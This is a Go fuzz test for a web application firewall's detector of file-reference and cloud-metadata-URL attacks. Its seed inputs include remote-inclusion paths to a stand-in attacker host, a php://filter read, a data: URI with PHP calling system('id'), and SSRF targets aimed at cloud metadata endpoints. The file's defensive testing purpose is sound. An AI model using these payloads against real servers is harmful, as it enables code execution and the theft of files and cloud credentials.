package waf

import "testing"

// FuzzScoreNeed checks the bytes the gate decides the reference and
// metadata-URL operators by: a value the scorer finds an attack in holds
// one of them.
func FuzzScoreNeed(f *testing.F) {
	for _, s := range []string{
		`\\attacker.example\share\x.php`, "//?/C:/Windows/win.ini", "file://attacker.example/x",
		"php://filter/resource=index.php", "data:,<?php system('id'); ?>", "//attacker.example/share/x.php",
		"http://169.254.169.254/latest/meta-data/", "url=http://metadata.google.internal/computeMetadata/v1/",
		"gopher://[fd00:ec2::254]/", "hello world", "",
	} {
		f.Add(s)
	}
	ref, meta := bytesOf(refNeed), bytesOf(metadataURLNeed)
	f.Fuzz(func(t *testing.T, v string) {
		b := bytesOf(v)
		if (refScore(v) == scoreAttack || fileRefScore(v) == scoreAttack) && !b.meets(ref) {
			t.Errorf("%q: a reference without any of %q", v, refNeed)
		}
		if metadataURL(v) != "" && !b.meets(meta) {
			t.Errorf("%q: a metadata URL without %q", v, metadataURLNeed)
		}
	})
}
